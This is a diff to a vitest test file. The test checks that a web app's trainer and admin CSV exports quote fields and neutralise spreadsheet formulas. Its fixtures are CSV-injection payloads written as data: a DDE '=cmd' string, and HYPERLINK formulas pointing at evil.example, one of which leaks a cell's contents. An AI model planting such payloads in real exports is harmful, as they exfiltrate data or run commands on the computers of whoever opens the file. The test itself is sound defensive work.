@@ -4,7 +4,8 @@
  * splits on commas made `=cmd|' /C calc'!A0` a formula cell. Every text field is quoted and
  * a formula start after any separator inside a field is defused. Checked on every trainer
  * and admin export, with the formula in a name, a region (also of someone present at a seminar)
- * and a cohort name (the audit log).
+ * and a cohort name (the audit log); a session's sign-ups also with a name that is a whole
+ * `=HYPERLINK(...)` formula.
  */
 import { afterAll, beforeAll, expect, test } from 'vitest';
 import { createWorld, type World } from './lib/world.ts';
@@ -12,6 +13,7 @@ import { createWorld, type World } from './lib/world.ts';
 const NAME = "Ann,=cmd|' /C calc'!A0,";
 const REGION = 'Almaty;+SUM(1;2)\t@x';
 const COHORT = 'Spring, =HYPERLINK("http://evil.example","x")';
+const LINK_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
 
 let w: World;
 beforeAll(async () => {
@@ -45,6 +47,19 @@ beforeAll(async () => {
           "marked_at) VALUES ('formula-event', 'formula-user', 'signed_up', 1, ?, ?, 'present', ?)",
         args: [now, now, now],
       });
+      // Signed up for the same seminar under a name that is one formula from its first character.
+      await db.$client.execute({
+        sql:
+          'INSERT INTO users (id, email, display_name, password_hash, role, locale, active, created_at) ' +
+          "VALUES ('link-user', 'link@oqu.test', ?, '!invited:x', 'learner', 'en', 1, ?)",
+        args: [LINK_NAME, now],
+      });
+      await db.$client.execute({
+        sql:
+          'INSERT INTO event_signups (event_id, user_id, status, position, signed_up_at, updated_at) ' +
+          "VALUES ('formula-event', 'link-user', 'waiting', 2, ?, ?)",
+        args: [now, now],
+      });
     },
   });
   expect(
@@ -75,6 +90,8 @@ const exports = [
   { path: '/en/admin/report.csv?by=grant-calls', who: 'admin' },
   { path: '/en/admin/report.csv?by=grants', who: 'admin' },
   { path: '/en/admin/audit.csv', who: 'admin', holds: 'Spring, ' },
+  { path: '/en/trainer/events/formula-event/signups.csv', who: 'trainer', holds: 'Ann,' },
+  { path: '/en/trainer/events/formula-event/signups.csv', who: 'admin', holds: "'=HYPERLINK(" },
 ] as const;
 
 test.each(exports)(
